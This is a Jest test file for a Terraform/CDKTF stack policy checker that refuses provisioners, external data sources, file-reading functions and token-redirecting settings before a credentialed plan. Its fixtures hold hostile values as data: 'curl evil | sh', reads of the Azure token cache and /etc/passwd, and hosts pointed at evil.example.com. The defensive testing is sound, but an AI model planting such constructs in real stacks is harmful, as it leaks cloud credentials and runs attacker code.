/**
 * The policy a synthesized stack must meet before a job with credentials
 * plans it (lib/terraform/stack-policy.ts, scripts/check-stack-policy.js):
 * every stack this project synthesizes passes (read from the output record,
 * which __tests__/output.test.ts holds to the current code), and each construct that runs
 * a program, reads the machine's files or sends the identity elsewhere at
 * plan time is refused, one line with its JSON path.
 */
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as path from "path";
import { duplicateKeys } from "../../lib/terraform/json-keys";
import { checkStackPolicy, checkStackPolicyText, functionProblem, type StackPolicyOptions } from "../../lib/terraform/stack-policy";
import { tempDir } from "../support";

const ROOT = path.join(__dirname, "..", "..");
const SCRIPT = path.join(ROOT, "scripts", "check-stack-policy.js");
const made: string[] = [];
afterAll(() => made.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

/**
 * What the app synthesizes for a group of sources (config/, the option matrix, the guide, the examples): the
 * output record, which __tests__/output.test.ts holds byte for byte to what the current code writes.
 */
const recorded = (group: string) => path.join(ROOT, "__tests__", "output", group, "out");

const stacksIn = (outdir: string) =>
  fs.readdirSync(path.join(outdir, "stacks")).map((s) => [s, JSON.parse(fs.readFileSync(path.join(outdir, "stacks", s, "cdk.tf.json"), "utf8"))] as const);

const OUT = { config: recorded("config"), matrix: recorded("matrix"), guide: recorded("guide") };

describe("every stack this project synthesizes passes", () => {
  test.each(["config", "matrix", "guide"] as const)("%s", (group) => {
    const stacks = stacksIn(OUT[group]);
    expect(stacks.length).toBeGreaterThan(0);
    for (const [name, json] of stacks) expect([name, checkStackPolicy(json)]).toEqual([name, []]);
  });

  test.each(["existing-vnet", "multi-env"])("the %s example", (example) => {
    const stacks = stacksIn(recorded(example));
    expect(stacks.length).toBeGreaterThan(0);
    for (const [name, json] of stacks) expect([name, checkStackPolicy(json)]).toEqual([name, []]);
  });

  test("prod meets the stricter policy of a plan with credentials (remote state, no chart repository)", () => {
    expect(checkStackPolicy(prod(), { remoteStateOnly: true, localChartsOnly: true })).toEqual([]);
  });
});

/** A fresh copy of the synthesized prod stack, and of a Cilium stack with remote state. */
const prod = (): Record<string, any> => JSON.parse(fs.readFileSync(path.join(OUT.config, "stacks", "prod", "cdk.tf.json"), "utf8"));
const cni = (): Record<string, any> => JSON.parse(fs.readFileSync(path.join(OUT.matrix, "stacks", "adopted-udr-private-cni", "cdk.tf.json"), "utf8"));
const clusterOf = (json: Record<string, any>) => Object.values(json.resource.azurerm_kubernetes_cluster)[0] as Record<string, any>;
const CLUSTER = (json: Record<string, any>) => `resource.azurerm_kubernetes_cluster.${Object.keys(json.resource.azurerm_kubernetes_cluster)[0]}`;
const releaseOf = (json: Record<string, any>) => json.resource.helm_release.cilium as Record<string, any>;

/** The findings of a document changed by `edit`, as `path: message`. */
function refused(base: () => Record<string, any>, edit: (json: Record<string, any>) => void, options?: StackPolicyOptions): string[] {
  const json = base();
  edit(json);
  return checkStackPolicy(json, options).map((f) => `${f.path}: ${f.message}`);
}

describe("runs a program or reads a file at plan time: refused", () => {
  test("an external data source", () => {
    const out = refused(prod, (j) => (j.data.external = { x: { program: ["bash", "-c", "env"] } }));
    expect(out).toEqual(['data.external: data source type "external" is not one this project synthesizes (it runs a program at plan time)']);
  });

  test.each(["local-exec", "remote-exec", "file"])("a %s provisioner, and its connection", (kind) => {
    const out = refused(prod, (j) => {
      Object.assign(clusterOf(j), { provisioner: [{ [kind]: { command: "curl evil" } }], connection: { host: "x" } });
    });
    expect(out).toEqual([
      expect.stringMatching(new RegExp(`^${CLUSTER(prod()).replace(/\./g, "\\.")}\\.provisioner: provisioner blocks are refused`)),
      expect.stringMatching(/\.connection: connection blocks are refused/),
    ]);
  });

  test("a terraform_data resource with more than a value", () => {
    const out = refused(prod, (j) => (j.resource.terraform_data = { x: { input: "a", triggers_replace: ["b"] } }));
    expect(out).toEqual(["resource.terraform_data.x.triggers_replace: a terraform_data resource holds only a value here (input); triggers_replace is refused"]);
  });

  test.each([
    ["null_resource", "it exists to run provisioners"],
    ["local_file", undefined],
  ])("a %s resource", (type, why) => {
    const out = refused(prod, (j) => (j.resource[type] = { x: {} }));
    expect(out).toEqual([`resource.${type}: resource type "${type}" is not one this project synthesizes${why ? ` (${why})` : ""}`]);
  });

  test.each([
    ["file", '${file("/home/runner/.azure/msal_token_cache.json")}', "reads the planning machine's files"],
    ["substr(file())", '${substr(file("/home/runner/.azure/msal_token_cache.json"),0,250)}', "reads the planning machine's files"],
    ["templatefile", '${templatefile("/etc/passwd", {})}', "reads a file of the planning machine"],
    ["fileset", '${join(",", fileset("/home/runner", "**"))}', "reads the planning machine's files"],
    ["filebase64", '${filebase64("/proc/self/environ")}', "reads the planning machine's files"],
    ["filesha256", '${filesha256("/x")}', "reads the planning machine's files"],
    ["fileexists", '${fileexists("/x") ? "a" : "b"}', "reads the planning machine's files"],
    ["core::file", '${core::file("/x")}', "reads the planning machine's files"],
    ["templatestring", '${templatestring(local.t, {})}', "renders a value as a template"],
    ["pathexpand", '${pathexpand("~/.azure")}', "reads the planning machine's home directory"],
    ["abspath", '${abspath(".")}', "reveals the planning machine's file system"],
    ["nonsensitive", "${nonsensitive(azurerm_log_analytics_workspace.w.primary_shared_key)}", "removes the sensitive mark"],
    ["a provider function", '${provider::azurerm::normalise_resource_id("x")}', "a provider-defined function runs provider code"],
    ["an unknown function", '${shell("id")}', "not a built-in function of Terraform or OpenTofu"],
  ])("%s in a tag", (_call, value, why) => {
    const out = refused(prod, (j) => (clusterOf(j).tags = { leak: value }));
    expect(out).toEqual([expect.stringMatching(new RegExp(`^${CLUSTER(prod()).replace(/\./g, "\\.")}\\.tags\\.leak: calls [a-z0-9:_]+\\(\\): ${why.replace(/[()]/g, "\\$&")}`))]);
  });

  test("a file function anywhere: an output, a local, a key, a nested template, a precondition", () => {
    const out = refused(prod, (j) => {
      j.output = { ...j.output, x: { value: '${file("/a")}' } };
      j.locals = { t: '${"a${file("/b")}"}' };
      clusterOf(j).tags = { '${file("/c")}': "x" };
      clusterOf(j).lifecycle = { precondition: [{ condition: '${fileexists("/d")}', error_message: "x" }] };
    });
    expect(out).toEqual([
      "output.x.value: calls file(): reads the planning machine's files",
      expect.stringMatching(/\.lifecycle\.precondition\[0\]\.condition: calls fileexists\(\)/),
      expect.stringMatching(/\.tags\["\$\{file\(\\"\/c\\"\)\}"\]: calls file\(\)/),
      "locals.t: calls file(): reads the planning machine's files",
    ]);
  });

  test("an expression the reader cannot be sure of", () => {
    expect(refused(prod, (j) => (clusterOf(j).tags = { x: '${var.x # }${file("/x")}' }))).toEqual([expect.stringMatching(/\.tags\.x: cannot be read with certainty \(an expression holds a comment\)/)]);
  });

  test("escaped template syntax is text, not a call", () => {
    expect(refused(prod, (j) => (clusterOf(j).tags = { x: '$${file("/x")}' }))).toEqual([]);
  });

  test("the Helm provider runs only kubelogin get-token", () => {
    const out = refused(cni, (j) => {
      const exec = j.provider.helm[0].kubernetes.exec;
      exec.command = "bash";
      exec.args = ["-c", "curl evil | sh"];
    });
    expect(out).toEqual([
      'provider.helm[0].kubernetes.exec.command: runs "bash"; only kubelogin is allowed',
      expect.stringMatching(/^provider\.helm\[0\]\.kubernetes\.exec\.args: must be \["get-token", "--login", /),
    ]);
    expect(refused(cni, (j) => j.provider.helm[0].kubernetes.exec.args.push("--token-cache-dir=/tmp/x"))).toEqual([expect.stringMatching(/exec\.args: must be/)]);
    expect(refused(cni, (j) => (j.provider.helm[0].kubernetes.config_path = "~/.kube/config"))).toEqual([expect.stringMatching(/^provider\.helm\[0\]\.kubernetes\.config_path: helm provider kubernetes setting "config_path" is refused/)]);
  });

  test("the Helm provider reaches only the cluster named in the cluster stack's state, where kubelogin's token may go", () => {
    expect(refused(cni, (j) => (j.provider.helm[0].kubernetes.host = "https://evil.example.com"))).toEqual([
      expect.stringMatching(/^provider\.helm\[0\]\.kubernetes\.host: must be read from the cluster stack's state/),
    ]);
    expect(refused(cni, (j) => (j.provider.helm[0].kubernetes.host = "https://${data.terraform_remote_state.x.outputs.y}.evil.example.com"))).toEqual([expect.stringMatching(/kubernetes\.host: must be read/)]);
    expect(refused(cni, (j) => (j.provider.helm[0].kubernetes.cluster_ca_certificate = "${base64decode(var.ca)}"))).toEqual([expect.stringMatching(/kubernetes\.cluster_ca_certificate: must be read/)]);
    // Defaults would stand in for an output the state does not have.
    const withDefaults = (j: Record<string, any>) => Object.assign(Object.values(j.data.terraform_remote_state)[0] as object, { defaults: { host: "https://evil.example.com" } });
    expect(refused(cni, withDefaults)).toEqual([expect.stringMatching(/^data\.terraform_remote_state\.[^.]+\.defaults: terraform_remote_state setting "defaults" is refused$/)]);
  });

  test("a Helm release that runs a post-renderer, or reads a keyring, or comes from elsewhere", () => {
    expect(refused(cni, (j) => (releaseOf(j).postrender = { binary_path: "/bin/sh" }))).toEqual([expect.stringMatching(/^resource\.helm_release\.cilium\.postrender: helm_release setting "postrender" is refused/)]);
    expect(refused(cni, (j) => Object.assign(releaseOf(j), { verify: true, keyring: "/home/runner/.gnupg/pubring.gpg" }))).toEqual([
      expect.stringMatching(/\.verify: helm_release setting "verify" is refused/),
      expect.stringMatching(/\.keyring: helm_release setting "keyring" is refused/),
    ]);
    expect(refused(cni, (j) => (releaseOf(j).repository = "https://charts.example.com"))).toEqual([expect.stringMatching(/\.chart: "cilium" from "https:\/\/charts\.example\.com" is refused/)]);
    expect(refused(cni, (j) => Object.assign(releaseOf(j), { repository: undefined, chart: "../../../tmp/evil.tgz" }))).toEqual([expect.stringMatching(/\.chart: "\.\.\/\.\.\/\.\.\/tmp\/evil\.tgz" is refused/)]);
  });

  test("a chart file next to the stack is what a plan with credentials installs", () => {
    const local = (j: Record<string, any>) => Object.assign(releaseOf(j), { repository: undefined, chart: "./cilium-1.18.12.tgz" });
    expect(refused(cni, local, { remoteStateOnly: true, localChartsOnly: true })).toEqual([]);
    expect(refused(cni, () => undefined, { localChartsOnly: true })).toEqual([expect.stringMatching(/\.chart: "cilium" from "https:\/\/helm\.cilium\.io" is refused; allowed: a chart file next to the stack/)]);
  });
});

describe("providers, state and blocks this project does not use: refused", () => {
  test.each([
    ["a provider", (j: Record<string, any>) => (j.provider.external = [{}]), /^provider\.external: provider "external" is not one this project uses/],
    ["a required provider", (j: Record<string, any>) => (j.terraform.required_providers.local = { source: "hashicorp/local" }), /^terraform\.required_providers\.local: provider "local" is not one/],
    ["another source for azurerm", (j: Record<string, any>) => (j.terraform.required_providers.azurerm.source = "evilcorp/azurerm"), /^terraform\.required_providers\.azurerm\.source: "evilcorp\/azurerm" is not the source of azurerm/],
    ["an azurerm provider setting that moves the token", (j: Record<string, any>) => (j.provider.azurerm[0].metadata_host = "evil.example.com"), /^provider\.azurerm\[0\]\.metadata_host: azurerm provider setting "metadata_host" is refused/],
    ["a backend setting that moves the token", (j: Record<string, any>) => (j.terraform.backend.azurerm.endpoint = "https://evil.example.com"), /^terraform\.backend\.azurerm\.endpoint: azurerm state setting "endpoint" is refused/],
    ["another backend", (j: Record<string, any>) => (j.terraform.backend = { http: { address: "https://evil.example.com" } }), /^terraform\.backend\.http: state in "http" is refused/],
    ["a module", (j: Record<string, any>) => (j.module = { m: { source: "git::https://evil.example.com/m.git" } }), /^module: "module" blocks are not used by this project and are refused \(a module is code from another source\)$/],
    ["a removed block", (j: Record<string, any>) => (j.removed = [{ from: "x.y", provisioner: [{ "local-exec": { command: "id" } }] }]), /^removed: "removed" blocks are not used/],
    ["a check block", (j: Record<string, any>) => (j.check = { c: { data: { external: { x: {} } } } }), /^check: "check" blocks are not used/],
    ["OpenTofu state encryption (key providers run programs)", (j: Record<string, any>) => (j.terraform.encryption = { key_provider: { external: {} } }), /^terraform\.encryption: terraform\.encryption is not used by this project and is refused \(OpenTofu key providers/],
    ["Terraform Cloud", (j: Record<string, any>) => (j.terraform.cloud = { organization: "x" }), /^terraform\.cloud: terraform\.cloud is not used/],
  ])("%s", (_what, edit, expected) => {
    expect(refused(prod, edit)).toEqual([expect.stringMatching(expected)]);
  });

  test("remote state read from another backend, or with a local file where credentials are present", () => {
    const http = (j: Record<string, any>) => Object.assign(Object.values(j.data.terraform_remote_state)[0] as object, { backend: "http", config: { address: "https://evil.example.com" } });
    expect(refused(cni, http)).toEqual([expect.stringMatching(/^data\.terraform_remote_state\.[^.]+\.config: state in "http" is refused/)]);
    const local = (j: Record<string, any>) => Object.assign(Object.values(j.data.terraform_remote_state)[0] as object, { backend: "local", config: { path: "/home/runner/.azure/msal_token_cache.json" } });
    expect(refused(cni, local)).toEqual([]);
    expect(refused(cni, local, { remoteStateOnly: true })).toEqual([expect.stringMatching(/\.config: state in "local" is refused: a plan with credentials reads state from the azurerm backend only/)]);
    expect(refused(() => JSON.parse(fs.readFileSync(path.join(OUT.config, "stacks", "dev", "cdk.tf.json"), "utf8")), () => undefined, { remoteStateOnly: true })).toEqual([
      expect.stringMatching(/^terraform\.backend\.local: state in "local" is refused/),
    ]);
  });
});

describe("the text: repeated keys, which JSON.parse would hide, are refused before anything else", () => {
  test("a second data block hidden behind a harmless one", () => {
    const text = JSON.stringify(prod()).replace('"data":{', '"data":{"external":{"x":{"program":["id"]}}},"data":{');
    expect(JSON.parse(text).data.external).toBeUndefined();
    expect(checkStackPolicyText(text)).toEqual([{ path: "data", message: expect.stringMatching(/appears more than once in its object/) }]);
    expect(checkStackPolicyText(JSON.stringify(prod()))).toEqual([]);
  });

  test.each([
    ['{"a":1,"a":2}', [{ path: "", key: "a" }]],
    ['{"a":{"b":[{"c":1},{"c":1,"c":2}]}}', [{ path: "a.b[1]", key: "c" }]],
    ['{"a":1,"\\u0061":2}', [{ path: "", key: "a" }]],
    ['{"a":"x\\"a\\":","b":{"a":1}}', []],
    ['{"a" \n :1, "b": ["a", "a"]}', []],
  ])("%s", (text, expected) => {
    expect(duplicateKeys(text)).toEqual(expected);
  });

  test("text that is not JSON", () => {
    expect(checkStackPolicyText("{")).toEqual([{ path: "", message: expect.stringMatching(/^is not valid JSON: /) }]);
  });
});

test("the function lists: the built-ins this project uses are allowed, and every file function of Terraform and OpenTofu is refused", () => {
  for (const f of ["cidrhost", "cidrsubnet", "cidrnetmask", "uuidv5", "base64decode", "sensitive", "toset", "core::join"]) expect([f, functionProblem(f)]).toEqual([f, undefined]);
  for (const f of ["file", "filebase64", "filebase64sha256", "filebase64sha512", "fileexists", "filemd5", "fileset", "filesha1", "filesha256", "filesha512", "templatefile", "templatestring", "core::templatefile"]) {
    expect([f, functionProblem(f)]).toEqual([f, expect.any(String)]);
  }
});

describe("the command", () => {
  function run(args: string[]) {
    return spawnSync(process.execPath, [SCRIPT, ...args], { encoding: "utf8" });
  }

  test("passes the shipped stacks and refuses a poisoned directory, one line each", () => {
    expect(run([OUT.config]).status).toBe(0);
    const dir = tempDir("aks-stack-policy-cli-");
    made.push(dir);
    const stack = path.join(dir, "stacks", "prod");
    fs.mkdirSync(stack, { recursive: true });
    const json = prod();
    json.data.external = { x: { program: ["id"] } };
    fs.writeFileSync(path.join(stack, "cdk.tf.json"), JSON.stringify(json));
    fs.writeFileSync(path.join(stack, "evil.tf"), 'data "external" "x" { program = ["id"] }');
    const linked = path.join(dir, "stacks", "linked");
    fs.mkdirSync(linked);
    fs.symlinkSync(path.join(stack, "cdk.tf.json"), path.join(linked, "cdk.tf.json"));
    const r = run(["--remote-state-only", dir]);
    expect(r.status).toBe(1);
    expect(r.stdout.split("\n").filter(Boolean)).toEqual([
      "linked: cdk.tf.json is not a regular file (a link?)",
      "prod: evil.tf: Terraform would read this file too; a stack directory holds cdk.tf.json only",
    ]);
    fs.rmSync(path.join(stack, "evil.tf"));
    expect(run([stack]).stdout).toMatch(/^prod: data\.external: data source type "external" is not one this project synthesizes/);
    expect(run(["--what", stack]).status).toBe(2);
    expect(run([path.join(dir, "missing")]).status).toBe(2);
  });
});
